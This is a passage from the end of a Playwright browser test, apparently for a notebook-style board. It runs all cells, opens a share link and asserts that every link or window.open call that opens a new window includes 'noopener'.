  await board.getByRole('button', { name: /^Run all/ }).click();
  await expect(board.locator('[data-cell-state="succeeded"]')).toHaveCount(2, { timeout: 30_000 });
  await board.getByRole('button', { name: 'Share link' }).click();

  // Everything that opened or could open a new window had noopener; the recorder saw the one above.
  const newWindows = openings.filter((o) => !SAME_CONTEXT.has(o.target.toLowerCase()));
  expect(newWindows.map((o) => o.text)).toContain('Open it in a new tab');
  for (const o of newWindows) {
    const rel = o.tag === 'window.open' ? o.rel.split(/[\s,]+/) : o.rel.toLowerCase().split(/\s+/);
    expect(rel, `${o.tag} target=${o.target} href=${o.href} "${o.text}"`).toContain('noopener');
  }
});
